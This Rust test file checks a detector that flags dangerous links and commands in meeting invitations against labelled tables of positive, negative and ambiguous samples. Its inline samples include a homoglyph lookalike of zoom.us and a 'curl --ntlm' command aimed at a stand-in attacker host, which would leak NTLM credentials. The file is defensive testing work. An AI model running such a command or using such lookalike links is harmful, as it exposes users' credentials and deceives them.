//! The labelled rows of `tests/links/`: what must be found and named right, what must not be said, and what nobody can decide.

#![allow(clippy::unwrap_used, clippy::panic, reason = "in tests a panic is the report")]

use std::path::Path;

use tallylight_core::Severity;
use tallylight_core::detector::link::{Found, Kind, Knowledge, may_match, scan};

struct Row {
    id: String,
    class: String,
    kind: Kind,
    text: String,
    host: String,
    share: String,
    severity: Severity,
}

/// Both tables of a sort: the plain ones, and those of hard surface forms (other scripts and languages, tricks upon tricks, odd company).
fn tables(sort: &str) -> Vec<Row> {
    let mut all = rows(&format!("{sort}.tsv"));
    all.extend(rows(&format!("hard-{sort}.tsv")));
    all
}

fn rows(name: &str) -> Vec<Row> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/links").join(name);
    let table = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let rows: Vec<Row> = table.lines().skip(1).filter(|l| !l.trim().is_empty()).map(row).collect();
    assert!(rows.len() >= 20, "{name} holds {} rows", rows.len());
    rows
}

fn row(line: &str) -> Row {
    let mut cells = line.split('\t');
    let mut cell = || cells.next().unwrap_or_default().to_owned();
    let (id, _split, class, kind, text, host, share, severity) = (cell(), cell(), cell(), cell(), cell(), cell(), cell(), cell());
    Row {
        kind: serde_json::from_value(kind.into()).unwrap(),
        text: serde_json::from_str(&text).unwrap(),
        severity: serde_json::from_value(severity.into()).unwrap_or_default(),
        id,
        class,
        host,
        share,
    }
}

fn found(row: &Row) -> Vec<Found> {
    scan(&row.text, row.kind, &Knowledge::default())
}

/// What a person is warned of: medium and above, or low where the row itself is low.
fn warned(row: &Row) -> Vec<Found> {
    found(row)
        .into_iter()
        .filter(|f| f.severity >= Severity::Medium || (row.severity == Severity::Low && f.severity == Severity::Low))
        .collect()
}

#[test]
fn dangerous_links_are_found_and_named() {
    let rows = tables("positives");
    let mut wrong = Vec::new();
    for row in &rows {
        let hits = warned(row);
        let right = hits.iter().any(|f| {
            let share = row.share.is_empty() || f.share.eq_ignore_ascii_case(&row.share);
            f.class == row.class && (row.host.is_empty() || f.host.eq_ignore_ascii_case(&row.host) && share)
        });
        if !right {
            wrong.push(format!("{} {} {:?}: {hits:?}", row.id, row.class, row.text));
        }
        if row.kind != Kind::Filename {
            assert!(may_match(&row.text), "the prefilter is silent on {}", row.id);
        }
        let units = row.text.encode_utf16().count() as u32;
        assert!(hits.iter().all(|f| f.start < f.end && f.end <= units), "{}: {hits:?}", row.id);
    }
    let recall = 1.0 - wrong.len() as f64 / rows.len() as f64;
    assert!(recall >= 0.99, "{:.1} % of {} rows are right; wrong:\n{}", recall * 100.0, rows.len(), wrong.join("\n"));
}

#[test]
fn ordinary_text_raises_nothing() {
    let rows = tables("negatives");
    let wrong: Vec<String> =
        rows.iter().filter(|r| !warned(r).is_empty()).map(|r| format!("{} {:?}: {:?}", r.id, r.text, warned(r))).collect();
    let rate = wrong.len() as f64 / rows.len() as f64;
    assert!(rate <= 0.005, "{:.1} % of {} rows raise something:\n{}", rate * 100.0, rows.len(), wrong.join("\n"));
}

#[test]
fn what_nobody_can_decide_is_low_at_most() {
    for row in rows("ambiguous.tsv") {
        let loud: Vec<Found> = found(&row).into_iter().filter(|f| f.severity > Severity::Low).collect();
        assert!(loud.is_empty(), "{} {:?}: {loud:?}", row.id, row.text);
    }
}

/// Dangers of the meeting rather than of the file system: told, and never louder than they are.
#[test]
fn beyond_shares() {
    let classes = |text: &str| scan(text, Kind::Text, &Knowledge::default()).into_iter().map(|f| (f.class, f.severity)).collect::<Vec<_>>();
    for (text, class, severity) in [
        ("join https://zoom-meetings.example/j/1", "lookalike-domain", Severity::Medium),
        ("https://zооm.us/j/1", "lookalike-domain", Severity::Medium),
        ("https://meet.jit.si/x#config.startWithVideoMuted=false", "join-media-on", Severity::Low),
        ("https://bit.ly/3x", "shortener", Severity::Low),
        ("zoommtg://zoom.us/join?confno=1", "native-handoff", Severity::Low),
        ("curl --ntlm -u : http://evil.test/", "command", Severity::High),
    ] {
        assert_eq!(classes(text), [(class.to_owned(), severity)], "{text}");
    }
    for text in ["https://zoom.us/j/1?pwd=x", "search:https://docs.example.com/x", "https://teams.microsoft.com/l/meetup-join/x"] {
        assert_eq!(classes(text), [], "{text}");
    }
}
